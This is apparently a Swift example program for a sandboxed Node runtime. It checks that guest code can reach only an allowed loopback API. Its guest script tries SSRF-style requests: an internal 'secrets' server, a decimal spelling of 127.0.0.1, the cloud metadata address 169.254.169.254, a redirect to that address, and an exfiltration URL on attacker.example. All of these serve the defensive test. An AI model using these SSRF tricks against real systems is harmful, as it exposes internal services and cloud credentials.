// Networking: the guest's fetch reaches a real server on the loopback only where both the
// permission check and the SSRF policy agree. A second, "internal" server on the same loopback
// stays out of reach, and so do the cloud metadata address and redirects to it.
//
//   swift run --package-path Examples networking
import ExampleSupport
import Hummingbird
import Logging
import NIOCore
import SecureExec
import Synchronization

/// Starts a Hummingbird server on 127.0.0.1 with an ephemeral port and returns the port. It runs
/// until this program exits.
func startServer(_ router: Router<BasicRequestContext>) async throws -> Int {
    let (ports, continuation) = AsyncStream.makeStream(of: Int.self)
    var logger = Logger(label: "example-server")
    logger.logLevel = .warning
    let app = Application(router: router, configuration: .init(address: .hostname("127.0.0.1", port: 0)),
                          onServerRunning: { channel in continuation.yield(channel.localAddress?.port ?? 0) },
                          logger: logger)
    Task { try await app.run() }
    for await port in ports { return port }
    fatalError("the server did not start")
}

// The service the guest is meant to use, and one it must never reach.
let api = Router()
api.get("/greeting") { _, _ in "hello from the host's API" }
api.get("/redirect") { _, _ in
    Response(status: .found, headers: [.location: "http://169.254.169.254/latest/meta-data/"])
}
let apiPort = try await startServer(api)

let internalHits = Mutex(0)
let admin = Router()
admin.get("/secrets") { _, _ in internalHits.withLock { $0 += 1 }; return "internal secrets" }
let adminPort = try await startServer(admin)

// Every network request the permission check saw.
let requests = Mutex<[String]>([])

let transcript = Transcript()
let runtime = try NodeRuntime(
    systemDriver: NodeDriver(
        // The adapter does the real networking. It admits public addresses only, plus the loopback
        // ports listed here: everything else private (loopback, 10/8, 169.254/16, …) is refused
        // after DNS, whatever the URL spelled.
        network: DefaultNetworkAdapter(loopbackExemptPorts: [apiPort]),
        // The permission decides by name first: anything but these hosts is denied before any DNS.
        permissions: Permissions(network: .check { (request: NetworkAccessRequest) -> Bool in
            requests.withLock { $0.append("\(request.op.rawValue) \(request.hostname):\(request.port ?? 0)") }
            return ["127.0.0.1", "localhost", "169.254.169.254"].contains(request.hostname)
        })
    ),
    onStdio: transcript.record
)

print("the guest fetches from the API server (port \(apiPort)) and tries to reach past it")
let result = try await runtime.exec("""
    async function attempt(label, url) {
      try {
        const response = await fetch(url);
        console.log('allowed', label, '->', response.status, await response.text());
      } catch (err) {
        // fetch fails as undici does: TypeError('fetch failed') with the reason as its cause.
        console.log('blocked', label, '->', err.cause?.code, err.cause?.message);
      }
    }
    await attempt('API', 'http://127.0.0.1:\(apiPort)/greeting');
    await attempt('internal server', 'http://127.0.0.1:\(adminPort)/secrets');
    await attempt('same, spelled as a number', 'http://2130706433:\(adminPort)/secrets');
    await attempt('cloud metadata', 'http://169.254.169.254/latest/meta-data/');
    await attempt('redirect to metadata', 'http://127.0.0.1:\(apiPort)/redirect');
    await attempt('unlisted host', 'http://attacker.example/exfiltrate?data=secret');
    """)

expect(result, ExecResult(code: 0), "the guest finished")
let lines = transcript.stdout.split(separator: "\n").map(String.init)
let loopbackRefused = "EACCES connect EACCES 127.0.0.1:\(adminPort): loopback address 127.0.0.1 is not reachable from the sandbox"
let metadataRefused = "EACCES connect EACCES 169.254.169.254:80: link-local address 169.254.169.254 is not reachable from the sandbox"
expect(lines, [
    "allowed API -> 200 hello from the host's API",
    // Allowed by the permission, refused by the adapter's SSRF policy: not an exempt port.
    "blocked internal server -> \(loopbackRefused)",
    // The host parses the URL itself: every spelling of an address is that address.
    "blocked same, spelled as a number -> \(loopbackRefused)",
    "blocked cloud metadata -> \(metadataRefused)",
    // Each redirect hop is checked like a new request.
    "blocked redirect to metadata -> \(metadataRefused)",
    // Denied by the permission at the DNS step: the name never leaves the host.
    "blocked unlisted host -> EACCES getaddrinfo EACCES attacker.example",
], "only the API server is reachable")
expect(internalHits.withLock { $0 }, 0, "the internal server never received a request")
let seen = requests.withLock { $0 }
expect(seen.contains("dns attacker.example:80"), "the denied name was asked about before any DNS query",
       detail: "\(seen)")

await runtime.dispose()
finish()
